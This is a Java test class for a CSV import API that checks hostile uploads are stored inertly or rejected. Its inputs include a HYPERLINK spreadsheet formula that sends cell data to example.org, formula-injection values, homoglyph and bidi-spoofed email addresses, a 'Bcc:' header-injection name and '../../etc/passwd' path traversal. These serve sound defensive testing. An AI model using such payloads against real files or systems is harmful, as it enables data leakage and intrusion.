package io.followthrough.people.enrolment;

import static io.followthrough.Given.aFollowUp;
import static io.followthrough.Given.aPerson;
import static io.followthrough.Given.aTeam;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasItems;
import static org.hamcrest.Matchers.is;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import io.followthrough.AtOnce;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.ValidatableResponse;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Files that nobody would send in good faith: each is taken as plain text, or refused by line, and then nothing of it is stored. */
@QuarkusTest
class HostileFilesTest {

    private static final int MOST = 10_000;

    private String team;
    private String known;

    @BeforeEach
    void somebody_is_there() {
        team = aTeam();
        known = aPerson(team, "Ana");
    }

    @Test
    void formulas_are_names_like_any_other_and_run_nowhere() {
        String formula = "=HYPERLINK(\"http://example.org?\"&A1;\"Ana\")";
        String sum = "=1+1." + known;
        people("email,name,team\n" + sum + ",\"" + formula.replace("\"", "\"\"") + "\"," + team + "\n").statusCode(200)
                .body("added", is(1));

        given().get("/api/v1/people?team=" + team).then().body("name", hasItem(formula));
        aFollowUp(Map.of("team", team, "owner", sum));
        assertThat(given().get("/api/v1/follow-ups?format=csv&team=" + team).asString()).contains(",'" + sum + ",")
                .doesNotContain("," + sum);
    }

    /** Letters of other scripts look like ours: the second a is Cyrillic, the K is the sign of a temperature, which is a k in lower case. */
    @ParameterizedTest
    @ValueSource(strings = {"an\u0430@example.org", "\u212Aelvin@example.org", "ana@ex\u0430mple.org", "ana\u200B@example.org",
            "\u202Egro.elpmaxe@ana", "ana@example.org@example.com", "ana@example.org,ben@example.org", "ana @example.org"})
    void an_address_that_looks_like_another_is_none(String address) {
        people("email,name\n" + known + ",Ana Ruiz\n\"" + address + "\",Ana\n").statusCode(422).body("errors.pointer",
                everyItem(is("line 3, email")));

        given().get("/api/v1/people/" + known).then().body("name", is("Ana"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Ana\u202Ezi", "Ana\u2066", "Ana\u2028Bcc: all", "Ana\u0007zi", "Ana\u0085zi"})
    void a_name_that_turns_or_breaks_its_line_is_refused(String name) {
        people("email,name\nnew-" + known + "," + name + "\n").statusCode(422).body("errors.pointer", hasItem("line 2, name"));
    }

    @Test
    void an_address_counts_once_however_it_is_written() {
        people("email,name\nnew-" + known + ",Ana\n NEW-" + known.toUpperCase() + " ,Ben\n").statusCode(422)
                .body("errors.pointer", contains("line 3, email")).body("errors.detail", contains("is on line 2 already"));
    }

    @Test
    void one_byte_order_mark_is_taken_off_and_no_more() {
        people("\uFEFF\"email\",name\n" + known + ",Ana Ruiz\n").statusCode(200);
        people("\uFEFF\uFEFFemail,name\n" + known + ",Ana\n").statusCode(422).body("errors[0].pointer",
                containsString("line 1"));
        given().get("/api/v1/people/" + known).then().body("name", is("Ana Ruiz"));
    }

    @Test
    void lines_are_counted_behind_cells_of_several() {
        people("email,name\n\"" + known + "\",\"Ana\n\n\nRuiz\"\nno address,Ben\n").statusCode(422)
                .body("errors.pointer", hasItems("line 2, name", "line 6, email"));
    }

    @Test
    void ten_thousand_lines_are_taken_or_none() {
        String file = "email,name,team\n" + lines(MOST);

        given().contentType("text/csv").body(file.getBytes(StandardCharsets.UTF_8)).post("/api/v1/people/import?dryRun=true")
                .then()
                .statusCode(200).body("added", is(MOST));
        people(file + known + ",One too many," + team + "\n").statusCode(422).body("errors.pointer", contains("line 10002"));
        people(file.replace("-9999@example.org,Name 9999", "-9999@example.org,")).statusCode(422).body("errors.pointer",
                contains("line 10001, name"));

        given().get("/api/v1/people?team=" + team).then().body("email", contains(known));
    }

    @Test
    void two_files_at_once_add_everybody_once() throws Exception {
        String file = "email,name,team\n" + lines(20);

        List<Integer> added = AtOnce.clients(4, _ -> people(file).statusCode(200).extract().path("added"));

        assertThat(added).containsExactlyInAnyOrder(20, 0, 0, 0);
        given().get("/api/v1/people?team=" + team).then().body("size()", is(21));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\u0440ayments,,", "PAYMENTS,,", "../payments,,", "=payments,,", "new-payments,=1+1,",
            "new-payments,,Mars",
            "new-payments,,../../etc/passwd", "new-payments,,+02:00"})
    void a_team_is_no_more_trusting(String line) {
        given().contentType("text/csv").body(("slug,lead,zone\n" + line + "\n").getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/teams/import").then().statusCode(422)
                .body("errors.pointer", hasItem(containsString("line 2, ")));

        given().get("/api/v1/teams/new-payments").then().statusCode(404);
    }

    private String lines(int count) {
        return IntStream.range(0, count).mapToObj(i -> team + "-" + i + "@example.org,Name " + i + "," + team + "\n")
                .collect(Collectors.joining());
    }

    private static ValidatableResponse people(String file) {
        return given().contentType("text/csv").body(file.getBytes(StandardCharsets.UTF_8)).post("/api/v1/people/import").then();
    }
}
